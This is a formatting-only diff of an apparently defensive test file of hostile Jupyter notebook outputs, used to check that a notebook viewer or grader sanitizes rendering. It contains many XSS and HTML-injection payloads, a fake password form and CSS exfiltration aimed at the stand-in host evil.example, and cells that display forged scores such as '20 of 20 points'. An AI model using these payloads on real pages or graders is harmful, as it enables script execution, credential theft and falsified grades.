@@ -12,7 +12,11 @@ from IPython.display import HTML, display
 
 display(HTML("<script>attack()</script>"))
 display(HTML("<SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>attack()</script>"))
-display(HTML("<svg><script>attack()</script></svg><math><mtext><script>attack()</script></mtext></math>"))
+display(
+    HTML(
+        "<svg><script>attack()</script></svg><math><mtext><script>attack()</script></mtext></math>"
+    )
+)
 display(HTML('<noscript><p title="</noscript><script>attack()</script>">'))
 HTML("<template><script>attack()</script></template><!--><script>attack()</script>-->")
 
@@ -24,14 +28,20 @@ HTML("<template><script>attack()</script></template><!--><script>attack()</scrip
 # %%
 from IPython.display import HTML, display
 
-for text in ("<img src=x onerror=attack()>", "<body onload=attack()>", "<svg onload=attack()></svg>",
-             "<details open ontoggle=attack()>x</details>", "<input autofocus onfocus=attack()>",
-             "<video><source onerror=attack()></video>", "<a onmouseover=attack()>x</a>",
-             "<svg><animate onbegin=attack() attributeName=x dur=1s></svg>",
-             "<math><mtext><table><mglyph><style><img src=x onerror=attack()></style></table></math>",
-             "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>",
-             "<svg></p><style><a id=\"</style><img src=1 onerror=attack()>\">",
-             "<div style=\"animation-name:x\" onanimationstart=attack()>x</div>"):
+for text in (
+    "<img src=x onerror=attack()>",
+    "<body onload=attack()>",
+    "<svg onload=attack()></svg>",
+    "<details open ontoggle=attack()>x</details>",
+    "<input autofocus onfocus=attack()>",
+    "<video><source onerror=attack()></video>",
+    "<a onmouseover=attack()>x</a>",
+    "<svg><animate onbegin=attack() attributeName=x dur=1s></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=attack()></style></table></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>",
+    '<svg></p><style><a id="</style><img src=1 onerror=attack()>">',
+    '<div style="animation-name:x" onanimationstart=attack()>x</div>',
+):
     display(HTML(text))
 
 # /// frames_and_objects
@@ -43,12 +53,17 @@ for text in ("<img src=x onerror=attack()>", "<body onload=attack()>", "<svg onl
 from IPython.display import HTML, IFrame, display
 
 display(IFrame("https://evil.example/", 800, 600))
-for text in ("<iframe srcdoc='<script>attack()</script>'></iframe>", "<embed src=//evil.example/x>",
-             "<object data='data:text/html,<script>attack()</script>'></object>",
-             "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
-             "<base href=https://evil.example/>", "<portal src=//evil.example></portal>",
-             "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-             "<link rel=stylesheet href=//evil.example/x.css>", "<applet code=x></applet>"):
+for text in (
+    "<iframe srcdoc='<script>attack()</script>'></iframe>",
+    "<embed src=//evil.example/x>",
+    "<object data='data:text/html,<script>attack()</script>'></object>",
+    "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
+    "<base href=https://evil.example/>",
+    "<portal src=//evil.example></portal>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<applet code=x></applet>",
+):
     display(HTML(text))
 
 # /// links
@@ -59,9 +74,16 @@ for text in ("<iframe srcdoc='<script>attack()</script>'></iframe>", "<embed src
 # %%
 from IPython.display import HTML, display
 
-for link in ("javascript:attack()", "JaVaScRiPt:attack()", "java&#9;script:attack()",
-             "&#x6a;avascript:attack()", "data:text/html,<script>attack()</script>",
-             "vbscript:attack()", " \x01javascript:attack()", "java\nscript:attack()"):
+for link in (
+    "javascript:attack()",
+    "JaVaScRiPt:attack()",
+    "java&#9;script:attack()",
+    "&#x6a;avascript:attack()",
+    "data:text/html,<script>attack()</script>",
+    "vbscript:attack()",
+    " \x01javascript:attack()",
+    "java\nscript:attack()",
+):
     display(HTML(f'<a href="{link}">solution</a>'))
     display(HTML(f'<svg><a xlink:href="{link}"><text y=20>solution</text></a></svg>'))
     display(HTML(f'<form action="{link}"><button formaction="{link}">x</button></form>'))
@@ -75,7 +97,11 @@ for link in ("javascript:attack()", "JaVaScRiPt:attack()", "java&#9;script:attac
 from IPython.display import HTML, display
 
 display(HTML("<style>.score {display: none} body::after {content: '20 of 20 points'}</style>"))
-display(HTML("<style>@import url(//evil.example/x.css); input[value^=a] {background: url(//e/a)}</style>"))
+display(
+    HTML(
+        "<style>@import url(//evil.example/x.css); input[value^=a] {background: url(//e/a)}</style>"
+    )
+)
 display(HTML('<div style="position:fixed;inset:0;z-index:9999;background:white">20 / 20</div>'))
 display(HTML('<div style="background:url(javascript:attack())">x</div>'))
 display(HTML('<div style="width:expression(attack())">x</div>'))
@@ -96,10 +122,14 @@ display(SVG(SCRIPTED))
 publish_display_data({"image/svg+xml": SCRIPTED})
 publish_display_data({"image/png": 'x" onerror="attack()" x="'})
 publish_display_data({"image/jpeg": "x'><script>attack()</script>"})
-publish_display_data({"image/png": "iVBORw0KGgo="},
-                     {"image/png": {"width": '1" onload="attack()', "height": "<script>attack()"}})
-publish_display_data({"image/png": "iVBORw0KGgo=", "text/plain": '" onerror="attack()'},
-                     {"alt": '" onerror="attack()', "image/png": {"alt": '" onerror="attack()'}})
+publish_display_data(
+    {"image/png": "iVBORw0KGgo="},
+    {"image/png": {"width": '1" onload="attack()', "height": "<script>attack()"}},
+)
+publish_display_data(
+    {"image/png": "iVBORw0KGgo=", "text/plain": '" onerror="attack()'},
+    {"alt": '" onerror="attack()', "image/png": {"alt": '" onerror="attack()'}},
+)
 
 # /// pictures_that_swell
 # tells = "Displays two kilobytes of SVG that draw a billion paths, and a PNG of a billion pixels."
@@ -129,8 +159,14 @@ from IPython.display import Javascript, Latex, Markdown, display, publish_displa
 display(Javascript("attack()"))
 display(Latex(r"$\href{javascript:attack()}{x}$ <script>attack()</script>"))
 display(Markdown("<script>attack()</script> [x](javascript:attack()) <img src=x onerror=attack()>"))
-publish_display_data({"application/vnd.jupyter.widget-view+json":
-                      {"model_id": "</script><script>attack()</script>", "version_major": 2}})
+publish_display_data(
+    {
+        "application/vnd.jupyter.widget-view+json": {
+            "model_id": "</script><script>attack()</script>",
+            "version_major": 2,
+        }
+    }
+)
 publish_display_data({"application/javascript": "attack()", "text/plain": "x"})
 publish_display_data({"application/pdf": "x' onload='attack()"})
 publish_display_data({"text/html": ["<scr", "ipt>attack()</scr", "ipt>"]})
@@ -147,18 +183,25 @@ publish_display_data({'text/"><script>attack()</script>': "x"})
 # %%
 print("<script>attack()</script>\x1b[31m<img src=x onerror=attack()>\x1b[0m")
 print("\x1b]8;;javascript:attack()\x1b\\solution\x1b]8;;\x1b\\", file=sys.stderr)
-print("\x1b[38;2;1;1;1\"onclick=attack();m x")
+print('\x1b[38;2;1;1;1"onclick=attack();m x')
 # %%
 raise type("<script>attack()</script>", (Exception,), {})("<img src=x onerror=attack()>")
+
+
 # %% forward_propagation
 def forward_propagation(x, theta):
     raise type("Odd<script>attack()</script>", (Exception,), {})("<img src=x onerror=attack()>")
+
+
 # %% backward_propagation
 def backward_propagation(x, theta):
     return "<script>attack()</script>"
+
+
 # %% numerical_derivative
 def numerical_derivative(f, theta, epsilon=1e-5):
     raise ValueError("\x1b[31m</pre><script>attack()</script>")
+
 
 # /// markdown
 # tells = "Writes HTML, links and formulas that run code into its text."
@@ -200,7 +243,9 @@ shows: [proof](javascript:attack()).
 # %%
 from IPython.display import HTML, display
 
-display(HTML("</div></div></div></main></body></html><html><body onload=attack()><h1>Score: 20</h1>"))
+display(
+    HTML("</div></div></div></main></body></html><html><body onload=attack()><h1>Score: 20</h1>")
+)
 display(HTML("<!-- " + "x" * 100))
 display(HTML("<plaintext>"))
 display(HTML("<textarea><div>"))
